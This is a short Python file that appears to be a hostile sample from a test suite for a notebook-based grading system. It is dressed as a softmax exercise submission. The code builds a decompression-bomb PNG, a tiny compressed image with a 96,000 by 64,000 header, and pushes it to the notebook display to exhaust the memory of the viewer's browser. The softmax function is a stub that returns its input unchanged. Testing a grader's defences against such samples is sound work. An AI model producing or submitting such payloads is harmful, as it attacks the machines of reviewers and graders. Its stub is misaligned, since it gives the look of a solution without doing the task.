# Tries: a small PNG that a browser unpacks to gigabytes.
# says: 02-logits-softmax/softmax/logits-returned
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


rows = zlib.compress(bytes(12_000 * 1_500), 9)
header = struct.pack(">IIBBBBB", 96_000, 64_000, 1, 0, 0, 0, 0)
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(png).decode()}, raw=True)


def softmax(z):
    return z
